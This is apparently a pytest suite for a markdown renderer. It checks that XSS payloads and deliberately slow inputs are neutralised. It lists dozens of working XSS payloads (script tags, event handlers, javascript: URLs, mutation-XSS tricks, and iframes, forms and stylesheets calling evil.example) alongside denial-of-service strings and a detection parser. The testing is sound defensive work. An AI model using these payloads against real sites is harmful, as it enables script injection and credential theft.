"""Pages that mean harm: nothing runs, nothing loads by itself, nothing leaves the site, and nothing takes for ever."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from callboard.features.techdocs.rendering import MarkdownFile, RenderOptions, render_file
from tests.features.techdocs.rendering.sites import html_of, page_of

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" OnError = "alert(1)">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="javascript:alert(1)">x</a>',
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe><script>alert(1)</script></iframe>",
    '<iframe src="https://video.example/&quot; onload=&quot;alert(1)">',
    "<object data=x.swf></object><embed src=x><applet code=x>",
    "<style>*{background:url(https://evil.example)}</style>",
    '<p style="background:url(https://evil.example);position:fixed">x</p>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<form action=https://evil.example><input name=password type=password><button>x</button></form>",
    "<textarea></textarea><select><option>x</select>",
    "# x {: onclick=alert(1) style=color:red }",
    "*x*{: onmouseover=alert(1) }",
    '[x](https://a.example){: href="javascript:alert(1)" target=_top }',
    '<div id="csp-nonce" class="dialog modal-backdrop">x</div>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    '``` {: onclick="alert(1)" }\nx\n```',
    "```mermaid\n</code></pre><script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    '=== "<script>alert(1)</script>"\n\n    x',
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '!!! note" onclick="alert(1)\n    x',
    "[^<script>alert(1)</script>]: x\n\na[^<script>alert(1)</script>]",
    '*[A]: " onmouseover="alert(1)\n\nA',
    '[x]: <javascript:alert(1)> "t" \n\n[x]',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\x02klzzwxh:0000\x03 \x02stashed\x03 <script>alert(1)</script>",
    "<a title=\"<iframe src='https://evil.example'>\">x</a>",
    "$<script>alert(1)</script>$",
    ':material-x"><script>alert(1)</script>:',
    '<video src="https://evil.example/t.mp4" autoplay onplay=alert(1) poster="//evil.example/p.png"></video>',
    '<img srcset="https://evil.example/x 1x" src="a.png">',
    '<td background="https://evil.example/x"><body onload=alert(1)>',
    '<a href="#x" ping="https://evil.example" download target=_blank>x</a>',
]
_TAGS = frozenset(
    [
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "applet",
        "form",
        "textarea",
        "select",
        "button",
        "link",
        "meta",
        "base",
        "math",
        "template",
        "body",
        "frame",
    ]
)


class Harm(HTMLParser):
    """Collects whatever a browser would run, load or be covered by."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag in _TAGS:
            self.found.append(tag)
        for name, value in attrs:
            value = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            if name.startswith("on") or name in {
                "style",
                "srcset",
                "srcdoc",
                "ping",
                "target",
                "background",
                "action",
                "http-equiv",
            }:
                self.found.append((tag, name))
            if name in {"href", "src", "poster"} and value.startswith(
                ("javascript:", "vbscript:", "data:text", "data:image/svg", "data:app")
            ):
                self.found.append((tag, name, value))
            if name in {"src", "poster"} and "evil.example" in value:
                self.found.append((tag, name, value))
            if name == "id" and not value.startswith("doc-"):
                self.found.append((tag, name, value))
            if name == "class" and ("dialog" in value or "modal" in value):
                self.found.append((tag, name, value))
            if tag == "input" and name == "type" and value not in {"checkbox", "radio"}:
                self.found.append((tag, name, value))


def harm_in(html):
    parser = Harm()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_to_nothing(attack):
    """Alone, in a list, in HTML, in a table; the rest of the page is there."""
    for text in (
        attack,
        f"- a\n\n  {attack}\n",
        f"<div markdown>\n\n{attack}\n\n</div>",
        f"a | b\n--|--\n{attack} | x\n",
    ):
        html = html_of(f"Before\n\n{text}\n\nAfter the attack")
        assert harm_in(html) == [], html
        assert "Before" in html


@settings(max_examples=40)
@given(
    st.lists(
        st.sampled_from(
            [*ATTACKS, "\n", "\n\n", "    ", "> ", "- ", "`", "```\n", "<div>", "</div>", '"', "'", "<!--", "{: ", "}"]
        ),
        max_size=8,
    )
)
def test_attacks_in_any_mixture_come_to_nothing(parts):
    """However they are joined, what comes out holds nothing that runs."""
    assert harm_in(html_of("".join(parts))) == []


def test_what_was_taken_away_is_told():
    """With its line, for whoever wrote it in good faith."""
    page = page_of(
        {
            "docs/index.md": "# Hi\n\n<script>x</script>\n\n<iframe src=https://a.example></iframe>\n\n`<script>` is fine\n"
        }
    )
    assert sorted((p.code, p.line) for p in page.problems) == [("refused", 3), ("refused", 5)]
    assert "&lt;script&gt;" in page.html


def test_frames_of_allowed_hosts_are_sandboxed():
    """Only https, only the hosts the operator names, and no attribute of the page's own."""
    html = html_of(
        '<iframe src="https://video.example/1" onload=x></iframe>', iframe_hosts=frozenset({"video.example"})
    )
    assert 'src="https://video.example/1"' in html and "sandbox=" in html and "onload" not in html
    assert "<iframe" not in html_of("<iframe src=http://video.example/1>", iframe_hosts=frozenset({"video.example"}))
    assert "<iframe" not in html_of(
        "<iframe src=https://video.example.evil/>", iframe_hosts=frozenset({"video.example"})
    )


SLOW = {
    "brackets": "[" * 20_000,
    "links": "[a](" * 5_000,
    "ticks": "".join("`" * n + " " for n in range(1, 200)),
    "words": "a." * 10_000 + "@",
    "quotes": "> " * 1_000,
    "lists": "".join("  " * n + "- a\n" for n in range(300)),
    "boxes": "".join("    " * n + "!!! note\n" for n in range(150)),
    "divs": "<div>\n" * 100_000,
    "table": "a" + "|a" * 500 + "\n-" + "|-" * 500 + "\n" + "|\n" * 10_000,
    "contents": "[TOC]\n\n" * 300 + "# a\n\n" * 500,
    "endless diagrams": "::uml::\n" * 20_000,
    "line": "x" * 1_000_000,
    "open links": "](" * 300_000,
    "open tags": ("<a " * 20 + "\n") * 1_500,
    "open marks": "{++" * 5_000 + "\n" + "{++\n" * 20_000,
    "open comments": "<!--\n" * 30_000,
    "attributes": "[a](b.md#c) {" + "#" * 40_000,
    "cuts": "-" * 40_000 + "8<-",
    "alert": "> [!note]" + " " * 40_000 + "x",
    "rule": "a|b\n" + "|" + "-" * 40_000 + "x",
    "unknown tags": "<x<div>" * 60_000,
    "title": "---\ntitle: a" + " " * 300_000 + "b\n---\n",
    "headings": "# a {#\n" * 20_000,
    "broken links": "[a](b) " * 20_000,
    "deep yaml": "---\n" + "[" * 40_000 + "\n---\n",
}


@pytest.mark.parametrize("name", SLOW)
def test_texts_made_to_be_slow_end(name):
    """Within the page's time and a little; what is not rendered is shown as its text, and told."""
    options = RenderOptions()
    options = RenderOptions(limits=type(options.limits)(render_s=0.2))
    started = time.process_time()
    page = render_file(MarkdownFile("a.md", SLOW[name].encode()), options)
    assert time.process_time() - started < 1.5
    if page.failed:
        assert page.problems[-1].code in {"refused", "syntax"} and "doc-source" in page.html


def test_a_page_that_is_too_large_is_cut():
    """At a million bytes, told; bytes that are no UTF-8 are replaced, with the line."""
    page = render_file(MarkdownFile("a.md", b"word\n\n" * 250_000))
    assert page.problems[0].code == "refused"
    page = render_file(MarkdownFile("a.md", b"ok\n\xff\xfe bad"))
    assert page.problems[0].line == 2 and "ok" in page.html
